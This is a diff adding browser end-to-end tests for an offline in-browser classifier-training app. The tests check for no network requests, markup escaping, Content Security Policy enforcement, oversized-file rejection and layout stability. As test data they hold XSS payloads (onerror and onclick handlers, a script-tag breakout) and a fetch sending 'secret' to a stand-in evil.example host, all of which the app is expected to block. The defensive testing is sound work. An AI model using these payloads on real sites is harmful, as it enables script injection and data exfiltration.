@@ -1,0 +1,164 @@
+/** What must not happen: a request with or after the user's texts, markup out of a table, a page that a hostile file takes down. */
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import { serveFolder } from "./server";
+import { button, drop, expect, expectAccessible, heading, SAMPLE, screenshot, setOptions, test, unzip } from "./session";
+
+const DIST = join(import.meta.dirname, "../../dist");
+
+test.describe("a whole session", () => {
+  test.use({ serviceWorkers: "allow", otherOrigins: [/^http:\/\/127\.0\.0\.1:\d+\//] });
+
+  test("makes no request after the encoder is loaded, from the drop of a file to the export", async ({ page, watch }) => {
+    const served = await serveFolder(DIST);
+    try {
+      await page.goto(served.address);
+      await expect(page.getByText("it opens without a network, too")).toBeVisible({ timeout: 60_000 });
+      await drop(page, "requests.csv", "text/csv", hostileTable());
+      await expect(page.getByText("6 layers of width 384, frozen")).toBeVisible({ timeout: 60_000 });
+      await page.waitForLoadState("networkidle");
+      // Two witnesses: what the browser says it asks for, and what arrives at the only server there is.
+      const [asked, arrived] = [watch.requests.length, served.requests.length];
+      expect(arrived).toBeGreaterThan(5);
+
+      await page.getByLabel("Labels are in").selectOption("1");
+      await page.getByLabel("Texts are in").selectOption("0");
+      await setOptions(page, { Method: "Prompt tuning", Steps: "6", Evaluations: "2" });
+      await button(page, "Train").click();
+      await expect(heading(page, "Your classifier is ready")).toBeVisible({ timeout: 200_000 });
+      await page.getByRole("textbox").first().fill("<img src=/try.png> what comes of this?");
+      const [download] = await Promise.all([page.waitForEvent("download"), button(page, "Download adapter").click()]);
+      const adapter = unzip(readFileSync(await download.path()));
+      expect(adapter.get("softprompt.json")!.toString()).toContain("<img src=x onerror=");
+      await page.waitForTimeout(1500);
+
+      expect(watch.requests.slice(asked).filter((address) => !address.startsWith("blob:"))).toEqual([]);
+      expect(served.requests.slice(arrived)).toEqual([]);
+      // Nothing of the texts and labels became markup, and none of it ran.
+      expect(await page.evaluate(() => (window as { pwned?: boolean }).pwned)).toBeUndefined();
+      expect(await page.locator("main img, main script, main iframe, main b, main style").count()).toBe(0);
+      await expectAccessible(page, "result with markup in labels");
+      await screenshot(page, "hostile-labels", true);
+    } finally {
+      served.close();
+    }
+  });
+});
+
+/** Labels and texts that are markup, and one that would be another language's code. */
+function hostileTable(): string {
+  const labels = ["<img src=x onerror=window.pwned=true>", "</script><script>window.pwned=true</script>", "{@html '<b>x</b>'}"];
+  const [, ...rows] = SAMPLE.trimEnd().split("\n");
+  const lines = rows.slice(0, 60).map((row, index) => {
+    const text = `<b onclick=alert(1)>${row.slice(0, row.lastIndexOf(",")).replaceAll('"', "")}</b> <iframe src=//evil.example>`;
+    return `"${text}","${labels[index % labels.length]!.replaceAll('"', '""')}"`;
+  });
+  return ["text,label", ...lines].join("\n");
+}
+
+test.describe("the policy", () => {
+  test.use({
+    expectedErrors: [/Content Security Policy/, /violates the following/, /evil\.example/],
+    otherOrigins: [/^(https|wss):\/\/evil\.example\//],
+  });
+
+  test("forbids what a page could be made to do", async ({ page }) => {
+    await page.goto("");
+    await button(page, "Try with sample data").click();
+    await expect(page.getByText("700 rows, separated by commas")).toBeVisible();
+    // In the page and in its worker: code from text, a script of another host, a request to another host.
+    const attempts = async () => {
+      const outcome = async (attempt: () => unknown) => {
+        try {
+          await attempt();
+          return "worked";
+        } catch (error) {
+          return (error as Error).name;
+        }
+      };
+      return {
+        code: await outcome(() => new Function("return 1")() as unknown),
+        request: await outcome(() => fetch("https://evil.example/?text=secret", { mode: "no-cors" })),
+        socket: await outcome(
+          () =>
+            new Promise((open, fail) => {
+              const socket = new WebSocket("wss://evil.example/");
+              socket.onopen = open;
+              socket.onerror = () => fail(new TypeError("refused"));
+            }),
+        ),
+      };
+    };
+    const refused = { code: "EvalError", request: "TypeError", socket: "TypeError" };
+    expect(await page.evaluate(attempts)).toEqual(refused);
+    expect(await page.workers()[0]!.evaluate(attempts)).toEqual(refused);
+    const scripts = await page.evaluate(async () => {
+      const blocked: string[] = [];
+      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => blocked.push(effectiveDirective));
+      const inline = document.createElement("script");
+      inline.textContent = "window.pwned = true";
+      const other = document.createElement("script");
+      other.src = "https://evil.example/x.js";
+      const image = new Image();
+      image.src = "https://evil.example/x.png";
+      document.body.append(inline, other, image);
+      await new Promise((go) => setTimeout(go, 300));
+      return { blocked: blocked.sort(), pwned: (window as { pwned?: boolean }).pwned };
+    });
+    expect(scripts).toEqual({ blocked: ["img-src", "script-src-elem", "script-src-elem"], pwned: undefined });
+  });
+});
+
+test("a file of a gigabyte is refused at once, and costs nothing", async ({ page }) => {
+  await page.goto("");
+  await button(page, "Try with sample data").click();
+  await expect(page.getByText("700 rows, separated by commas")).toBeVisible();
+  const milliseconds = await page.evaluate(async () => {
+    // One piece again and again: a file of this size that takes no memory.
+    const piece = new Blob([new Uint8Array(4 << 20).fill(97)]);
+    const file = new File(Array.from({ length: 256 }, () => piece), "huge.csv", { type: "text/csv" });
+    const transfer = new DataTransfer();
+    transfer.items.add(file);
+    const before = performance.now();
+    document.body.dispatchEvent(new DragEvent("drop", { dataTransfer: transfer, bubbles: true, cancelable: true }));
+    while (!document.querySelector("[role=alert]") && performance.now() - before < 10_000)
+      await new Promise((go) => setTimeout(go, 10));
+    return performance.now() - before;
+  });
+  await expect(page.getByRole("alert")).toContainText("huge.csv has 1074 MB");
+  expect(milliseconds).toBeLessThan(1000);
+  await expect(page.getByText("700 rows, separated by commas")).toBeVisible();
+});
+
+test("nothing on the page moves by itself", async ({ page }) => {
+  test.setTimeout(300_000);
+  await page.addInitScript(() => {
+    const shifts: { value: number; nodes: string[] }[] = [];
+    Object.assign(window, { shifts });
+    new PerformanceObserver((list) => {
+      for (const entry of list.getEntries() as (PerformanceEntry & {
+        value: number;
+        hadRecentInput: boolean;
+        sources: { node?: Element | null }[];
+      })[])
+        if (!entry.hadRecentInput)
+          shifts.push({ value: entry.value, nodes: entry.sources.map(({ node }) => node?.outerHTML?.slice(0, 90) ?? "?") });
+    }).observe({ type: "layout-shift", buffered: true });
+  });
+  for (const [width, height] of [
+    [1280, 900],
+    [360, 740],
+  ] as const) {
+    await page.setViewportSize({ width, height });
+    await page.goto("");
+    await expect(page.getByText("Trains on CPU")).toBeVisible();
+    await button(page, "Try with sample data").click();
+    await expect(page.getByText("6 layers of width 384, frozen")).toBeVisible({ timeout: 60_000 });
+    await setOptions(page, { Method: "Prompt tuning", Steps: "8", Evaluations: "2" });
+    await button(page, "Train").click();
+    await expect(heading(page, "Your classifier is ready")).toBeVisible({ timeout: 200_000 });
+    const shifts = await page.evaluate(() => (window as unknown as { shifts: { value: number; nodes: string[] }[] }).shifts);
+    const sum = shifts.reduce((total, { value }) => total + value, 0);
+    expect(sum, `${width} px: ${JSON.stringify(shifts, undefined, 1)}`).toBeLessThan(0.02);
+  }
+});
